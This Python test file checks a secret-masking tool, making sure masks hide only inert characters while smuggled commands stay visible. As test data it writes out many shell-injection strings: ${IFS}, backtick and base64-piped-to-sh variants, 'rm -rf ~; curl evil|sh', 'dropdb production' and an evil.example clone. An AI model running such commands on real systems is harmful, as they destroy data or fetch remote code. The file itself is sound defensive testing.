"""Secrets are masked, and nothing that could act hides in a mask."""

from __future__ import annotations

import base64
import json
import os
import re
import subprocess
import time
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from redact.secret_formats import ENCODINGS, leaks, make_secrets
from warmstart.confirm.masking.masker import Masker

FULL = os.environ.get("WARMSTART_FULL") == "1"
MASK = re.compile(r"\{\{SECRET:[a-z0-9-]+#\d+\}\}⟨([\d,]+) characters?(?: on \d+ lines)?⟩")
# Letters, digits and what joins them, or escapes of these.
INERT = re.compile(r"(?:[^\W_]|[_+~.-]|%[0-9a-fA-F]{2}|\\+(?:u00|x)[0-9a-fA-F]{2}|&#[0-9xX]\w{1,2};)+")
OWN = "b4ttery;horse$staple"
masker = Masker({"SHOP_PASSWORD": OWN})


def show(value: Any) -> Any:
    return json.loads(masker.mask_details(value)[0])


def uncover(shown: str, text: str) -> list[str]:
    """Return what each mask covers. Everything else must be shown letter by letter."""
    covered = []
    at = shown_at = 0
    for mask in MASK.finditer(shown):
        seen = shown[shown_at : mask.start()]
        assert text.startswith(seen, at), (shown, text)
        at += len(seen)
        size = int(mask[1].replace(",", ""))
        covered.append(text[at : at + size])
        at, shown_at = at + size, mask.end()
    assert text[at:] == shown[shown_at:], (shown, text)
    return covered


# Commands

COMMANDS = {
    "after a key": "API_KEY=abc123;touch${IFS}PWNED|cat",
    "in a login of a URL": "true https://u:p;touch${IFS}PWNED;@github.com/org/repo",
    "in a value": "TOKEN=a1b2$(touch${IFS}PWNED) true",
    "after a login": "true curl -u joe:p1;touch${IFS}PWNED https://x.invalid",
    "after a flag": 'mysql --password=a;touch${IFS}PWNED; -e "select 1"',
    "and": "API_KEY=abc123&&touch${IFS}PWNED",
    "beside": "DB_PASSWORD=x1&touch${IFS}PWNED",
    "backticks": "TOKEN=a1b2`touch${IFS}PWNED` true",
    "backticks alone": "SECRET=`touch\tPWNED`",
    "on the next line": "export API_KEY=abc12345\ntouch PWNED",
    "with the variable": "PASSWORD=hunter touch PWNED",
    "process substitution": "true --token=abc12345<(touch${IFS}PWNED)",
    "into a file": "echo x --password=abc12345>PWNED",
    "into a drawn file": "echo x --password=abc12345>x9f3kd82jf",
    "closed quote": "PASSWORD='abc12345';touch${IFS}PWNED",
    "quotes that are not quotes": "echo ' PASSWORD='abc12345;touch${IFS}PWNED''",
    "opened twice": 'PASSWORD=""abc12345;touch${IFS}PWNED""',
    "evaluated": "eval TOKEN='abc12345;touch${IFS}PWNED'",
    "no comment": "TOKEN=abc12345#x;touch${IFS}PWNED #y",
    "a chain": "A_TOKEN=B_TOKEN=abc12345;touch${IFS}PWNED",
    "a header": "true 'Authorization: Bearer abc12345defghi';touch${IFS}PWNED",
    "the rest of a line": "true 'Authorization: OAuth abc12345' ; touch PWNED",
    "a cookie": "true 'Cookie: sid=abc12345defghi' ; touch PWNED",
    "between the lines of a key": "-----BEGIN PRIVATE KEY-----\n" + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC" * 2 + "\ntouch PWNED\n-----END PRIVATE KEY-----",
    "after the words": "echo mnemonic; touch PWNED able about above absent absorb abstract absurd abuse access accident",
    "piped to what looks like a password": "PATH=.:$PATH; ln -s $(command -v tee) reboot1a; echo creds bob | reboot1a PWNED",
    "a tag that is a redirection": "touch password; cat <password>customers1.db</dev/null",
    "an arrow that is one": "echo password => customers1",
    "on a line of its own": "PATH=.:$PATH; ln -s $(command -v touch) reboot1; : user bob\n: passwd\nreboot1 PWNED",
    "as another's name": "shopt -s expand_aliases\nalias token=touch\ntoken PWNED",
    "a command with a drawn name": "ln -s $(command -v touch) x9f3kd82jf;TOKEN=a1b2c3;./x9f3kd82jf PWNED",
    "own value": f"X={OWN};touch PWNED",
    "a vendor's": "X=ghp_" + "a1B2" * 9 + ";touch${IFS}PWNED",
    "a hash": "HOME=PWNED; touch $6$HOME/../PWNED; touch $6$HOME",
    "in colour": "TOKEN=abc12345\x1b[31;touch${IFS}PWNED",
}  # fmt: skip


def run(command: str, folder: Path) -> set[str]:
    """Run a command and return the files that it leaves."""
    folder.mkdir()
    subprocess.run(["bash", "-c", "--", command], cwd=folder, capture_output=True, timeout=20, check=False)
    return {file.name for file in folder.iterdir()}


@pytest.mark.parametrize("command", COMMANDS.values(), ids=COMMANDS)
def test_what_is_shown_does_what_runs(command: str, tmp_path: Path) -> None:
    shown = show({"command": command})["command"]
    done = run(command, tmp_path / "real")
    assert done, "it does something"
    assert run(MASK.sub("x", shown), tmp_path / "shown") == done, shown
    assert all(map(INERT.fullmatch, (part for part in uncover(shown, command) if "\n" not in part)))


@pytest.mark.parametrize("name", ["after a key", "in a login of a URL", "in a value", "after a login"])
def test_the_description_hides_no_command_either(name: str) -> None:
    shown = masker.mask_text(f"runs {COMMANDS[name]}")
    assert "touch${IFS}PWNED" in shown
    assert MASK.search(shown)


SIGNS = [";", "|", "&", "&&", "$(", "`", "<(", ">", "${IFS}", "\n", " ", "\t", "'", '"', "\\n", "%0a", "%3b", "%253b"]
SIGNS += [
    "\\u003b",
    "\\x3b",
    "&#59;",
    "{",
    "(",
    "[",
    ",",
    "\\",
    "\u2028",
    "\u200b",
    "\x00",
    "\x1b[1;31m",
    ";./",
    "|/bin/",
]
QUIET = ["!", "#", "^", ":", "*", "?", "=", "@", "%", ".", "..", "-", "_", "+", "~", "/", "../", "é", "א", "\x1b[31m"]
PREFIXES = [
    "API_KEY=",
    "--password=",
    "--token ",
    "password is ",
    "https://u:",
    "curl -u joe:",
    "Bearer ",
    "sid=",
    "-p",
]
PREFIXES += ["Authorization: OAuth ", "Authorization: Basic ", "Cookie: sid=", "PASSWORD='", '{"api_key": "', "secret "]
PREFIXES += ["identified by '", "ghp_", "sk-ant-", "AKIA", "$6$", "eyJhbGciOiJIUzI1NiJ9.", "mnemonic: ", "", "0x", "/"]
WORDS = [
    "reboot",
    "rm -rf ~",
    "userdel bob",
    "dropdb production",
    "/usr/bin/reboot",
    "../../x",
    "--force",
    "x9f3kd82jf",
]
ENDS = re.compile(r"x9\{\{SECRET:\w+#\d+\}\}⟨6 characters⟩jf")  # where it may be a secret in a table or in backticks
drawn = st.text("abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789", min_size=1, max_size=44)
secrets = st.builds(str.__add__, drawn, st.lists(st.one_of(drawn, st.sampled_from(QUIET)), max_size=3).map("".join))
tails = st.lists(st.tuples(st.sampled_from(SIGNS), st.sampled_from(WORDS)), min_size=1, max_size=3)


@pytest.mark.slow
@given(
    st.sampled_from(["", "sudo ", "echo '"]),
    st.sampled_from(PREFIXES),
    secrets,
    tails,
    st.sampled_from(["", "'", " x"]),
)
@settings(max_examples=400 if FULL else 150, deadline=None)
def test_commands_after_a_secret_are_shown(
    lead: str, prefix: str, secret: str, tail: list[tuple[str, str]], end: str
) -> None:
    after = "".join(map("".join, tail))
    text = f"{lead}{prefix}{secret}{after}{end}"
    shown = show([text])[0]
    assume(", decoded: " not in shown)
    assert after in ENDS.sub("x9f3kd82jf", shown)
    assert all(map(INERT.fullmatch, uncover(shown, text)))


@given(st.lists(st.one_of(drawn, st.sampled_from([*SIGNS, *QUIET, *PREFIXES, *WORDS])), min_size=1, max_size=8))
@settings(max_examples=400 if FULL else 150, deadline=None)
def test_a_mask_covers_letters_and_digits(parts: list[str]) -> None:
    text = "".join(parts)
    for key in ("command", "password"):
        shown = show({key: text})[key]
        assume(", decoded: " not in shown)
        for part in uncover(shown, text):
            assert INERT.fullmatch(part), part
            assert ".." not in part


def test_a_command_in_other_clothes_is_seen() -> None:
    inside = "PASSWORD=x1y2z311;touch PWNED"
    encoded = base64.b64encode(inside.encode()).decode()
    for command in (
        f"echo {encoded} | base64 -d | sh",
        f"echo {inside.encode().hex()} | xxd -r -p | sh",
        f"TOKEN={encoded}; echo $TOKEN | base64 -d | sh",
        f"echo {base64.b64encode(encoded.encode()).decode()} | base64 -d | base64 -d | sh",
        f"curl -H 'Authorization: Basic {base64.b64encode(b'joe:p1;touch PWNED').decode()}'",
        f"X=eyJhbGciOiJIUzI1NiJ9.{encoded.rstrip('=')}.c2lnbmF0dXJl",
    ):
        shown = show(command)
        assert ";touch PWNED" in shown, command
        assert "x1y2z311" not in shown
        assert ", decoded: " in shown
    for escaped in (quote("TOKEN=abc12345;touch PWNED", safe=""), "curl https://x/?token=abc12345%0atouch%20PWNED"):
        assert escaped.partition("abc12345")[2] in show(escaped)
    nested = json.dumps({"env": json.dumps({"api_key": "abc12345;touch${IFS}PWNED"})})
    assert ";touch${IFS}PWNED" in show(nested)
    assert "abc12345" not in show(nested)


def test_a_path_a_host_and_an_option_are_seen() -> None:
    for text in (
        "curl https://api.example.com/token=a1b2c3d4/../../admin/delete",
        "curl https://api.example.com/token=a1b2c3d4?delete=all1",
        "git clone token:abc12345@evil.example/org/repo",
        "git clone https://u:p1@evil.example@github.com/org/repo",
        "curl x9f3kd82jf83jf02jf9s.evil.example",
        "rm -rf password to --no-preserve-root1 /",
        "rm -rf $6$HOME/Documents",
        "rm FlyV1 /home/user/documents",
    ):
        for word in (
            "/../../admin/delete",
            "?delete=all1",
            "evil.example",
            "--no-preserve-root",
            " $6$HOME/Documents",
            "/home/user",
        ):
            assert word not in text or word in show(text)
    assert show({"private_key": "/root/.ssh/id_ed25519"}) == {"private_key": "/root/.ssh/id_ed25519"}
    assert show("PASSWORD=`reboot` make") == "PASSWORD=`reboot` make"
    assert show("alias token=reboot; token") == "alias token=reboot; token"
    assert show("cat api_key | x9f3kd82jf") == "cat api_key | x9{{SECRET:token#1}}⟨6 characters⟩jf", (
        "or a cell of a table"
    )
    assert (
        MASK.sub("", show("<user>bob</user>\n<password>rose</password>\n"))
        == "<user>bob</user>\n<password></password>\n"
    )


# Targets and secrets


def test_what_something_is_done_to_is_seen() -> None:
    whole = {
        "to_address": "0x52908400098527886E0F7030069857D2E4169EE7",
        "namespace": "8f3kd92jf83jf02jf9s8",
        "recipients": ["8f3kd92jf83jf02jf9s8", "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"],
        "command": "send 0x52908400098527886E0F7030069857D2E4169EE7 5",
        "iban": "DE89370400440532013000",
    }
    assert show(whole) == whole
    for noun in ("ns", "secret", "pod"):
        shown = show(f"kubectl delete {noun} 8f3kd92jf83jf02jf9s8")
        assert re.search(r" 8f3kd\{\{SECRET:\w+#1\}\}⟨10 characters⟩jf9s8$", shown), "both ends, and how long"
    long = "kQ9zR4tV7wX2yB5nM8cL3dF6gH1jK0pS"
    assert show(f"upload {long}") == f"upload {long[:8]}{{{{SECRET:opaque#1}}}}⟨16 characters⟩{long[-8:]}"
    kept = show({"session_id": long, "key": long})
    assert long not in json.dumps(kept), "it may be a key: not whole"


def test_what_a_name_makes_secret_is_masked_whatever_it_looks_like() -> None:
    for password in (
        "hunter2!",
        "P@ssw0rd!",
        "tr0ub4dor&3",
        "aK4$jd8&mQ2)zP9;wE5",
        "correct horse battery staple",
        "rose",
    ):
        shown = show({"password": password})["password"]
        kept = MASK.sub("", shown)
        assert not re.search(r"[A-Za-z0-9]{2}", kept), shown
        assert "".join(c for c in password if not c.isalnum()) == kept.replace("3", "")
    assert show({"secret": 1234567}) == {"secret": "{{SECRET:password#1}}⟨7 characters⟩"}
    assert show({"env": [{"name": "DB_PASSWORD", "value": "rose"}]})["env"][0]["value"].startswith(
        "{{SECRET:password#1"
    )
    assert "rose77" not in json.dumps(show({"args": ["--password", "rose77"]}))
    assert "xK7q" not in show({"dsn": "postgres://bob:xK7qqW9@db.internal/prod"})["dsn"]
    assert show({"dsn": "postgres://bob:xK7qqW9@db.internal/prod"})["dsn"].endswith("@db.internal/prod")
    assert show({"token": "${TOKEN}", "password": "", "secret": None}) == {
        "token": "${TOKEN}",
        "password": "",
        "secret": None,
    }


def test_a_command_under_such_a_name_is_seen() -> None:
    assert "-rf ~; curl evil|sh" in show({"api_key": "rm -rf ~; curl evil|sh"})["api_key"]
    assert "; touch PWNED" in show({"env": {"API_TOKEN": "x; touch PWNED"}})["env"]["API_TOKEN"]
    assert show({"secret": ["x", "--force", "/srv"]})["secret"][1:] == ["--force", "/srv"]


def test_keys_and_tokens_of_known_forms_are_masked_whole() -> None:
    line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"
    block = "\n".join(["-----BEGIN PRIVATE KEY-----", *[line] * 3, "x9Qa3f==", "-----END PRIVATE KEY-----"])
    for text in (block, block.replace("\n", "\\n")):
        shown = show(text)
        assert len(MASK.findall(shown)) == 1
        assert line[:8] not in shown
        assert "x9Qa3f" not in shown
    assert show(block).startswith("-----BEGIN PRIVATE KEY-----\n{{SECRET:pem#1}}⟨203 characters on 4 lines⟩\n-----END")
    token = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
    assert show(token) == f"{{{{SECRET:jwt#1}}}}⟨{len(token)} characters⟩"
    assert "abandon" not in show("mnemonic: " + "abandon ability able about " * 3)


def test_own_values_are_masked_in_any_spelling() -> None:
    for text in (OWN, json.dumps(OWN), quote(OWN, safe=""), base64.b64encode(OWN.encode()).decode()):
        shown = show(f"use {text}")
        for part in ("b4ttery", "b4tt"):
            assert part not in shown


@pytest.mark.slow
@pytest.mark.parametrize("encoding", ["raw", "json", "json twice", "base64", "url", "unicode escapes"])
def test_secrets_of_all_forms_are_masked_as_before(encoding: str) -> None:
    """Most of each secret is masked."""
    secrets = [secret for seed in range(2 if FULL else 1) for secret in make_secrets(seed)]
    left = []
    for secret in secrets:
        text, parts = ENCODINGS[encoding](secret)
        left += [secret for shown in (show({"x": text})["x"], masker.mask_text(text)) if leaks(shown, parts)]
    assert [secret.name for secret in left if secret.kind == "vendor"] == []
    assert len(left) <= 0.05 * 2 * len(secrets), {secret.name for secret in left}


# The masks themselves


def test_masks_are_counted_numbered_and_never_make_two_keys_one() -> None:
    token = "ghp_" + "a1B2" * 9
    text, count = masker.mask_details({"a": token, "b": f"{token} P=1", "password": "P@ssw0rd!"})
    assert count == 3, "a secret with two masks is one"
    assert text.count("{{SECRET:github#1}}⟨40 characters⟩") == 2
    assert masker.mask_details({"b": 1, "a": {"password": "x1"}}) == masker.mask_details(
        {"a": {"password": "x1"}, "b": 1}
    )
    mask = "{{SECRET:github#1}}⟨40 characters⟩"
    both = show({token: "rm", mask: "ls"})
    assert sorted(both.values()) == ["ls", "rm"]
    assert show(f"quoted: {mask}") == f"quoted: {mask}"


def test_a_value_that_was_named_once_is_not_whole_elsewhere() -> None:
    shown = masker.mask_details(
        {"a": {"password": "xK7qqW9zP2vB"}, "b": "as agreed: xK7qqW9zP2vB", "c": "xK7qqW9zP2vB --all"}
    )[0]
    assert "xK7qqW9zP2vB" not in shown
    assert re.search(r'"xK7\{\{[^{}]+\}\}⟨6 characters⟩2vB --all"', shown), "here it may be a command"


@pytest.mark.slow
def test_hostile_arguments_take_no_longer_than_others() -> None:
    size = 100_000 if FULL else 25_000
    for piece in (
        "!a1@b",
        ";",
        "%41%253b",
        "@a.b",
        "a=b1c2d3e4f5g6; ",
        "/a1b2c3d4e5",
        "TOKEN=a1b2;x ",
        "a1-",
        "`",
        "\\",
    ):
        began = time.monotonic()
        masker.mask_details({"c": "API_KEY=abc123" + piece * (size // len(piece))})
        assert time.monotonic() - began < 30, piece  # quadratic time would be minutes
